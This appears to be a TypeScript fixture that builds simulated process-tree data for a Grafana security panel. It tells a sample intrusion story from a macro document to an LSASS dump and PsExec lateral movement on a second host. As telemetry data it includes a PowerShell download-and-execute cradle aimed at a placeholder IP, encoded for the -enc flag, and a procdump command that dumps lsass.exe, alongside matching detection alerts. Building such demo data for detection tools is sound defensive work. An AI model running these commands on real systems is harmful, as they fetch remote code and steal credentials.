// The story that the preview of the options tells where the panel has no processes of its own yet.
import type { DataFrame } from '@grafana/data';
import { alerts, frame, grow, noon, p } from './write-frames';
import type { Grown } from './write-frames';

const encoded = btoa(
  [...'IEX (New-Object Net.WebClient).DownloadString("http://198.51.100.7/a")'].map((mark) => `${mark}\0`).join(''),
);

const macro: Grown = p(
  'explorer.exe',
  { user: 'CORP\\nora', integrity: 'Medium', image: 'C:\\Windows\\explorer.exe' },
  p(
    'OUTLOOK.EXE',
    { image: 'C:\\Program Files\\Microsoft Office\\OUTLOOK.EXE', integrity: 'Medium' },
    p(
      'WINWORD.EXE',
      {
        id: 'word',
        image: 'C:\\Program Files\\Microsoft Office\\WINWORD.EXE',
        commandLine: 'WINWORD.EXE /n "C:\\Users\\nora\\Downloads\\invoice.docm"',
        integrity: 'Medium',
        alertsMedium: 1,
      },
      p(
        'powershell.exe',
        {
          id: 'shell',
          image: 'C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe',
          commandLine: `powershell.exe -nop -w hidden -enc ${encoded}`,
          integrity: 'Medium',
          hash: 'SHA256=9F914D42706FE215501044ACD85A32D58AAEF1419D404FDDFA5D3B48F66CCD9F,MD5=7353F60B1739074EB17C5F4DDDEFE239',
          alertsHigh: 2,
          countNetwork: 3,
          countDns: 2,
        },
        p('whoami.exe', { commandLine: 'whoami /all', alertsLow: 1 }),
        p('procdump64.exe', {
          id: 'dump',
          commandLine: 'procdump64.exe -accepteula -ma lsass.exe C:\\Temp\\x.dmp',
          integrity: 'High',
          alertsCritical: 1,
        }),
      ),
    ),
  ),
  p('chrome.exe', ...Array.from({ length: 9 }, () => p('chrome.exe', { commandLine: 'chrome.exe --type=renderer' }))),
);
const lsass = p(
  'wininit.exe',
  { user: 'SYSTEM', integrity: 'System' },
  p('lsass.exe', { id: 'lsass', user: 'SYSTEM', integrity: 'System' }),
);
/** A document with a macro, from the mail to the dump of LSASS: 18 processes of one host. */
export const macroFrames: readonly DataFrame[] = [
  grow([macro, lsass]),
  alerts(
    { processId: 'word', level: 'medium', title: 'Office document with macro opened', time: noon + 9000 },
    {
      processId: 'shell',
      level: 'high',
      title: 'Encoded PowerShell command',
      time: noon + 13_000,
      matched: '{"CommandLine":"powershell.exe -nop -w hidden -enc …","ParentImage":"WINWORD.EXE"}',
    },
    { processId: 'shell', level: 'high', title: 'Office starts a shell', time: noon + 13_000 },
    { processId: 'dump', level: 'critical', title: 'LSASS dumped by ProcDump', time: noon + 22_000 },
  ),
  frame('edges', [
    { source: 'dump', target: 'lsass', kind: 'access', time: noon + 23_000, label: '0x1fffff', level: 'critical' },
  ]),
  frame('events', [
    { processId: 'shell', kind: 'dns', action: 'query', time: noon + 13_500, what: 'cdn.invoice-portal.example' },
    { processId: 'shell', kind: 'network', action: 'connect', time: noon + 14_000, what: '198.51.100.7:80', count: 3 },
    { processId: 'dump', kind: 'file', action: 'create', time: noon + 24_000, what: 'C:\\Temp\\x.dmp' },
  ]),
];

/** The same, and where it went from there: the shell makes a service on a second host. */
export const storyFrames: readonly DataFrame[] = [
  ...macroFrames,
  grow(
    [
      p(
        'services.exe',
        { id: 'services', start: noon - 30_000 },
        p(
          'PSEXESVC.exe',
          { id: 'service', start: noon + 41_000, alertsHigh: 1 },
          p('cmd.exe', { id: 'remote', start: noon + 43_000 }, p('reg.exe', { start: noon + 47_000, alertsHigh: 1 })),
        ),
      ),
    ],
    { host: 'srv-02', user: 'SYSTEM', integrity: 'System' },
  ),
  frame('edges', [
    {
      ...{ source: 'shell', sourceHost: 'ws-014', target: 'service', targetHost: 'srv-02' },
      ...{ kind: 'service', time: noon + 41_000, label: 'PSEXESVC' },
    },
  ]),
];
